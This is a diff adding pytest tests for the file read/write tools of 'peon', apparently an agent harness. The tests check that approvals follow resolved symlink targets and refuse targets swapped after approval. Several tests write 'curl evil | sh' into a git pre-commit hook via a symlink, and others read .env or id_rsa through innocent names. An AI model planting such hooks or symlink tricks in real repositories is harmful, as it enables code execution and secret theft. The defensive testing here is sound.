@@ -1,0 +1,377 @@
+"""read and write are rated, shown and approved by the path they resolve to, and the worker opens only
+what was approved — through real sessions, with real symlinks and both resolvers.
+
+The attacks: a repository that ships ``docs/notes.md -> ../.git/hooks/pre-commit`` (a ``path_prefix =
+"docs"`` allow rule must not let ``write`` rewrite an executable hook unasked), ``notes.txt -> .env``
+(a read must be rated as the secret-like read it is), and a symlink re-pointed, or a file replaced,
+between approval and execution (the worker refuses with ``changed_since_approval``). Symlink targets
+that are not UTF-8 give ``not_found`` / ``outside_workspace`` / ``invalid_path``, never ``tool_failed``.
+"""
+
+from __future__ import annotations
+
+import os
+import stat
+from pathlib import Path
+
+import pytest
+
+from conftest import expect_error, expect_ok
+from peon.errors import ToolError
+from peon.paths import parse_file_path
+from peon.tool import SessionView
+from peon.tools import target as target_module
+from peon.tools.target import approval_target, approved_expectation
+from workers import fs
+
+HOOK = "#!/bin/sh\nexit 0\n"
+
+
+class Recorder:
+    """An approver that records each request and runs ``action(request)`` before answering."""
+
+    def __init__(self, action=None, answer="allow_once"):
+        self.action, self.answer = action, answer
+        self.requests: list[dict] = []
+
+    def __call__(self, request):
+        self.requests.append(request)
+        if self.action is not None:
+            self.action(request)
+        return self.answer
+
+
+def hooked_repository(workspace: Path) -> Path:
+    hooks = workspace / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    hook = hooks / "pre-commit"
+    hook.write_text(HOOK)
+    hook.chmod(0o755)
+    (workspace / "docs").mkdir()
+    os.symlink("../.git/hooks/pre-commit", workspace / "docs" / "notes.md")
+    return hook
+
+
+# -- what the approver sees, and what rules match ---------------------------------------------------------
+
+
+def test_a_write_through_a_symlink_shows_both_paths(open_session, workspace, resolver_env):
+    hook = hooked_repository(workspace)
+    approver = Recorder(answer="deny")
+    session = open_session({"approval": {"filesystem": "ask"}}, env=resolver_env, approver=approver)
+    expect_error(session, "write", {"path": "docs/notes.md", "content": "curl evil | sh\n", "mode": "replace"},
+                 "denied")
+    (request,) = approver.requests
+    details = request["details"]
+    assert details["path"] == ".git/hooks/pre-commit" and details["typed_path"] == "docs/notes.md"
+    assert details["file_id"] == f"{hook.stat().st_dev}:{hook.stat().st_ino}"
+    parent = hook.parent.stat()
+    assert details["directory_id"] == f"{parent.st_dev}:{parent.st_ino}"
+    assert "'docs/notes.md' resolves to '.git/hooks/pre-commit'" in request["risk_reason"]
+    assert hook.read_text() == HOOK
+
+
+def test_the_hook_attack_is_not_allowed_by_a_docs_rule(open_session, workspace):
+    """A path_prefix rule matches the resolved path: 'docs' does not cover .git/hooks/pre-commit."""
+    hook = hooked_repository(workspace)
+    (workspace / "docs" / "real.md").write_text("old\n")
+    rules = [{"tool": "write", "path_prefix": "docs", "decision": "allow"}]
+    session = open_session({"approval": {"filesystem": "ask", "rules": rules}})  # no approver: "ask" denies
+    assert expect_ok(session, "write", {"path": "docs/real.md", "content": "new\n", "mode": "replace"})
+    error = expect_error(session, "write", {"path": "docs/notes.md", "content": "curl evil | sh\n",
+                                            "mode": "replace"}, "denied")
+    assert error.details["by"] == "no-approver"
+    assert hook.read_text() == HOOK and stat.S_IMODE(hook.stat().st_mode) == 0o755
+    assert (workspace / "docs" / "notes.md").is_symlink()
+
+
+def test_no_typed_path_when_the_path_resolves_to_itself(open_session, workspace):
+    approver = Recorder()
+    session = open_session({"approval": {"read_only": "ask", "filesystem": "ask"}}, approver=approver)
+    (workspace / "a.txt").write_text("a")
+    expect_ok(session, "read", {"path": "./a.txt"})
+    expect_ok(session, "write", {"path": "b.txt", "content": "b", "mode": "create"})
+    read_request, write_request = approver.requests
+    assert read_request["details"]["path"] == "a.txt" and "typed_path" not in read_request["details"]
+    assert write_request["details"]["path"] == "b.txt" and "typed_path" not in write_request["details"]
+    assert "file_id" not in write_request["details"]  # nothing exists yet: only its directory is pinned
+    assert read_request["risk_reason"] == "reads a file inside the workspace"
+
+
+@pytest.mark.parametrize("link, target", [("notes.txt", ".env"), ("docs/readme", "../deploy/id_rsa"),
+                                          ("cfg", "config/credentials.json")])
+def test_a_read_through_an_innocent_name_is_rated_by_what_it_reads(open_session, workspace, resolver_env,
+                                                                     link, target):
+    (workspace / "docs").mkdir()
+    (workspace / "deploy").mkdir()
+    (workspace / "config").mkdir()
+    (workspace / target.removeprefix("../")).write_text("TOKEN=1\n")
+    os.symlink(target, workspace / link)
+    session = open_session({"approval": {"read_only": "allow", "filesystem": "deny"}}, env=resolver_env)
+    error = expect_error(session, "read", {"path": link}, "denied")
+    assert "filesystem risk" in error.message and "secret-like path" in error.message
+    assert "resolves to" in error.message
+    resolved = os.path.normpath(os.path.join(os.path.dirname(link), target))
+    assert repr(resolved) in error.message
+
+
+def test_a_secret_like_typed_name_stays_secret_like_whatever_it_points_to(open_session, workspace):
+    """The stricter of the two ratings wins: '.env -> plain.txt' is still asked about."""
+    (workspace / "plain.txt").write_text("x")
+    os.symlink("plain.txt", workspace / ".env")
+    session = open_session({"approval": {"read_only": "allow", "filesystem": "deny"}})
+    error = expect_error(session, "read", {"path": ".env"}, "denied")
+    assert "secret-like path: '.env'" in error.message
+    assert expect_ok(session, "read", {"path": "plain.txt"})["content"] == "x"
+
+
+def test_calls_that_cannot_succeed_fail_before_anyone_is_asked(open_session, workspace, tmp_path):
+    approver = Recorder()
+    session = open_session({"approval": {"read_only": "ask", "filesystem": "ask"}}, approver=approver)
+    (tmp_path / "outside").mkdir()
+    os.symlink("../outside", workspace / "out")
+    os.mkfifo(workspace / "fifo")
+    (workspace / "here").write_text("x")
+    expect_error(session, "read", {"path": "missing"}, "not_found")
+    expect_error(session, "read", {"path": "out/x"}, "outside_workspace")
+    expect_error(session, "read", {"path": "fifo"}, "not_a_regular_file")
+    expect_error(session, "write", {"path": "missing", "content": "x", "mode": "replace"}, "not_found")
+    expect_error(session, "write", {"path": "here", "content": "x", "mode": "create"}, "already_exists")
+    expect_error(session, "write", {"path": "nodir/x", "content": "x", "mode": "create"}, "not_found")
+    expect_error(session, "write", {"path": "out/x", "content": "x", "mode": "create"}, "outside_workspace")
+    assert approver.requests == []
+    assert os.listdir(tmp_path / "outside") == []
+
+
+# -- the worker opens only what was approved --------------------------------------------------------------
+
+
+def repoint(link: Path, target: str):
+    def action(request):
+        tmp = link.with_name(link.name + ".new")
+        os.symlink(target, tmp)
+        os.replace(tmp, link)  # atomic: the link always exists
+    return action
+
+
+def test_a_read_symlink_repointed_after_approval_is_refused(open_session, workspace, resolver_env):
+    (workspace / "a.txt").write_text("approved")
+    (workspace / "b.txt").write_text("NOT APPROVED")
+    os.symlink("a.txt", workspace / "link")
+    approver = Recorder(repoint(workspace / "link", "b.txt"))
+    session = open_session({"approval": {"read_only": "ask"}}, env=resolver_env, approver=approver)
+    error = expect_error(session, "read", {"path": "link"}, "changed_since_approval")
+    assert "approved as 'a.txt' but now resolves to 'b.txt'" in error.message
+    assert approver.requests[0]["details"]["path"] == "a.txt"
+
+
+def test_a_file_replaced_after_approval_is_refused(open_session, workspace, resolver_env):
+    (workspace / "f.txt").write_text("approved")
+
+    def replace_file(request):
+        (workspace / "f.new").write_text("swapped in")
+        os.replace(workspace / "f.new", workspace / "f.txt")
+
+    session = open_session({"approval": {"read_only": "ask"}}, env=resolver_env, approver=Recorder(replace_file))
+    error = expect_error(session, "read", {"path": "f.txt"}, "changed_since_approval")
+    assert "another file" in error.message
+
+
+def test_a_write_symlink_repointed_at_the_hook_after_approval_is_refused(open_session, workspace, resolver_env):
+    hook = hooked_repository(workspace)
+    (workspace / "docs" / "real.md").write_text("old\n")
+    os.replace(workspace / "docs" / "notes.md", workspace / "docs" / "hook-link")
+    os.symlink("real.md", workspace / "docs" / "notes.md")
+    approver = Recorder(repoint(workspace / "docs" / "notes.md", "../.git/hooks/pre-commit"))
+    session = open_session({"approval": {"filesystem": "ask"}}, env=resolver_env, approver=approver)
+    error = expect_error(session, "write", {"path": "docs/notes.md", "content": "curl evil | sh\n",
+                                            "mode": "replace"}, "changed_since_approval")
+    assert "approved as 'docs/real.md' but now resolves to '.git/hooks/pre-commit'" in error.message
+    assert hook.read_text() == HOOK and (workspace / "docs" / "real.md").read_text() == "old\n"
+    assert not [p for p in (workspace / "docs").iterdir() if p.name.startswith(".peon-tmp-")]
+
+
+def test_a_create_whose_directory_is_swapped_after_approval_is_refused(open_session, workspace, resolver_env):
+    (workspace / "a").mkdir()
+    (workspace / "b").mkdir()
+    os.symlink("a", workspace / "out")
+    approver = Recorder(repoint(workspace / "out", "b"))
+    session = open_session({"approval": {"filesystem": "ask"}}, env=resolver_env, approver=approver)
+    error = expect_error(session, "write", {"path": "out/new.txt", "content": "x", "mode": "create"},
+                         "changed_since_approval")
+    assert "approved as 'a/new.txt' but now resolves to 'b/new.txt'" in error.message
+    assert os.listdir(workspace / "a") == [] and os.listdir(workspace / "b") == []
+
+
+def test_a_directory_replaced_by_another_after_approval_is_refused(open_session, workspace, resolver_env):
+    """Same path, same name, another directory object: the directory's identity is checked at the write."""
+    (workspace / "d").mkdir()
+
+    def swap_directory(request):
+        os.rename(workspace / "d", workspace / "d-approved")
+        (workspace / "d").mkdir()
+
+    session = open_session({"approval": {"filesystem": "ask"}}, env=resolver_env,
+                           approver=Recorder(swap_directory))
+    error = expect_error(session, "write", {"path": "d/new.txt", "content": "x", "mode": "create"},
+                         "changed_since_approval")
+    assert "another file" in error.message or "directory" in error.message
+    assert os.listdir(workspace / "d") == [] and os.listdir(workspace / "d-approved") == []
+
+
+def test_a_file_created_where_nothing_was_approved_is_refused(open_session, workspace, resolver_env):
+    """A replace approved for one file, whose path then leads to a file that appeared meanwhile."""
+    (workspace / "a.txt").write_text("a")
+    os.symlink("a.txt", workspace / "link")
+
+    def appear(request):
+        (workspace / "late.txt").write_text("late")
+        repoint(workspace / "link", "late.txt")(request)
+
+    session = open_session({"approval": {"filesystem": "ask"}}, env=resolver_env, approver=Recorder(appear))
+    expect_error(session, "write", {"path": "link", "content": "x", "mode": "replace"}, "changed_since_approval")
+    assert (workspace / "a.txt").read_text() == "a" and (workspace / "late.txt").read_text() == "late"
+
+
+def test_unchanged_targets_run_normally_after_approval(open_session, workspace, resolver_env):
+    (workspace / "real").mkdir()
+    (workspace / "real" / "f.txt").write_text("one")
+    os.symlink("real", workspace / "dir-link")
+    os.symlink("dir-link/f.txt", workspace / "file-link")
+    approver = Recorder()
+    session = open_session({"approval": {"read_only": "ask", "filesystem": "ask"}}, env=resolver_env,
+                           approver=approver)
+    assert expect_ok(session, "read", {"path": "file-link"})["content"] == "one"
+    assert expect_ok(session, "write", {"path": "file-link", "content": "two", "mode": "replace"})
+    assert expect_ok(session, "write", {"path": "dir-link/g.txt", "content": "new", "mode": "create"})
+    assert (workspace / "real" / "f.txt").read_text() == "two" and (workspace / "real" / "g.txt").read_text() == "new"
+    assert [r["details"]["path"] for r in approver.requests] == ["real/f.txt", "real/f.txt", "real/g.txt"]
+    assert os.path.islink(workspace / "file-link")
+
+
+# -- the pieces, in process -------------------------------------------------------------------------------
+
+
+def view(workspace: Path, root_fd: int = -1) -> SessionView:
+    return SessionView(workspace=workspace, config=None, env={}, root_fd=root_fd)
+
+
+def test_one_resolution_per_call(workspace):
+    (workspace / "a").write_text("a")
+    session = view(workspace)
+    args = {"path": "a"}
+    first = approval_target(parse_file_path("a"), "read", args, session)
+    assert approval_target(parse_file_path("a"), "read", args, session) is first  # assess_risk, then details
+    (workspace / "a").unlink()
+    with pytest.raises(ToolError) as info:  # a new call (a new args object) resolves again
+        approval_target(parse_file_path("a"), "read", dict(args), session)
+    assert info.value.code.value == "not_found"
+    target_module._last = None
+
+
+@pytest.mark.parametrize("approved", [
+    {}, {"path": "a"}, {"path": "a", "directory_id": "1:2"}, {"path": 7, "file_id": "1:2", "directory_id": "1:2"},
+    {"path": "a", "file_id": "x", "directory_id": "1:2"}, {"path": "a", "file_id": "1:2", "directory_id": "-1:2"},
+])
+def test_the_worker_fails_closed_without_a_well_formed_approval(workspace, approved):
+    (workspace / "a").write_text("a")
+    root = fs.open_root(workspace)
+    try:
+        with pytest.raises(ToolError) as info:
+            approved_expectation(approved, parse_file_path("a"), "read", root)
+    finally:
+        os.close(root)
+    assert info.value.code.value == "changed_since_approval"
+
+
+def test_a_create_must_not_carry_a_file_identity(workspace):
+    target = approval_target(parse_file_path("new"), "create", {}, view(workspace))
+    details = target.details()
+    assert set(details) == {"path", "directory_id"}
+    root = fs.open_root(workspace)
+    try:
+        assert approved_expectation(details, parse_file_path("new"), "create", root).file is None
+        with pytest.raises(ToolError):
+            approved_expectation({**details, "file_id": "1:2"}, parse_file_path("new"), "create", root)
+    finally:
+        os.close(root)
+
+
+def test_the_pinned_root_is_used_even_after_the_workspace_is_swapped(tmp_path):
+    """workspace_root() gives a duplicate of session.root_fd: renaming the workspace and putting a
+    symlink in its place changes nothing for resolutions beneath it."""
+    ws, elsewhere = tmp_path / "ws", tmp_path / "elsewhere"
+    ws.mkdir()
+    elsewhere.mkdir()
+    (ws / "f.txt").write_text("the workspace")
+    (elsewhere / "f.txt").write_text("ELSEWHERE")
+    pinned = os.open(ws, os.O_PATH | os.O_DIRECTORY | os.O_CLOEXEC)
+    try:
+        os.rename(ws, tmp_path / "ws-moved")
+        os.symlink(elsewhere, ws)
+        pinned_view, by_path = view(ws, pinned), view(ws)
+        for resolver in (fs.Resolver.WALK, *([fs.Resolver.OPENAT2] if fs.openat2_available() else [])):
+            with fs.workspace_root(pinned_view) as root:
+                assert root != pinned
+                window = fs.read_window(root, parse_file_path("f.txt"), resolver, lambda total: (0, total))
+                assert window.data == b"the workspace"
+                assert fs.resolve(root, parse_file_path("f.txt"), follow_final=True, must_exist=True).path == "f.txt"
+            with fs.workspace_root(by_path) as root:  # no pinned root: opened by path, as before
+                assert fs.read_window(root, parse_file_path("f.txt"), resolver, lambda t: (0, t)).data == b"ELSEWHERE"
+        os.fstat(pinned)  # still open: the helper closed only its duplicate
+    finally:
+        os.close(pinned)
+
+
+# -- symlink targets that are not UTF-8 -------------------------------------------------------------------
+
+
+def test_non_utf8_symlink_targets_give_stable_codes(fs_session, workspace, tmp_path):
+    base = os.fsencode(workspace)
+    os.symlink(b"\xff-missing", base + b"/missing")
+    os.symlink(b"../\xff-out", base + b"/out")
+    os.symlink(b"/tmp/\xff", base + b"/absolute")
+    os.mkdir(base + b"/dir-\xfe")
+    with open(base + b"/dir-\xfe/f.txt", "w") as f:
+        f.write("inside")
+    with open(base + b"/caf\xe9", "w") as f:
+        f.write("latin-1 name")
+    os.symlink(b"caf\xe9", base + b"/latin")
+    os.symlink(b"dir-\xfe", base + b"/dir-link")
+    os.symlink(b"dir-\xfe/../\xff-missing", base + b"/winding")
+    cases = {
+        "missing": "not_found", "out": "outside_workspace", "absolute": "outside_workspace",
+        "latin": "invalid_path", "dir-link/f.txt": "invalid_path", "winding": "not_found",
+        "dir-link/nope": "not_found",
+    }
+    for path, code in cases.items():
+        error = expect_error(fs_session, "read", {"path": path}, code)
+        assert repr(path) in error.message, error.message
+        for value in (error.details or {}).values():  # details are valid text
+            str(value).encode("utf-8")
+    assert "not valid UTF-8" in expect_error(fs_session, "read", {"path": "latin"}, "invalid_path").message
+    for path, mode, code in (("missing", "replace", "not_found"), ("out", "replace", "outside_workspace"),
+                             ("dir-link/new.txt", "create", "invalid_path"), ("out/x", "create", "outside_workspace")):
+        expect_error(fs_session, "write", {"path": path, "content": "x", "mode": mode}, code)
+    assert sorted(os.listdir(base + b"/dir-\xfe")) == [b"f.txt"]
+    assert not os.path.lexists(tmp_path / "\udcff-out")
+
+
+@pytest.mark.parametrize("resolver", ["walk", "openat2"])
+def test_non_utf8_targets_in_the_lower_layer(workspace, resolver):
+    """workers.fs itself: errors for such targets carry only valid text in their details."""
+    if resolver == "openat2" and not fs.openat2_available():
+        pytest.skip("openat2 is not available on this kernel")
+    base = os.fsencode(workspace)
+    os.symlink(b"../\xff", base + b"/out")
+    os.symlink(b"\xff", base + b"/missing")
+    root = fs.open_root(workspace)
+    try:
+        for text, code in (("out", "outside_workspace"), ("missing", "not_found")):
+            with pytest.raises(ToolError) as info:
+                fs.read_window(root, parse_file_path(text), fs.Resolver(resolver), lambda total: (0, total))
+            assert info.value.code.value == code
+            for value in info.value.details.values():
+                str(value).encode("utf-8")
+    finally:
+        os.close(root)
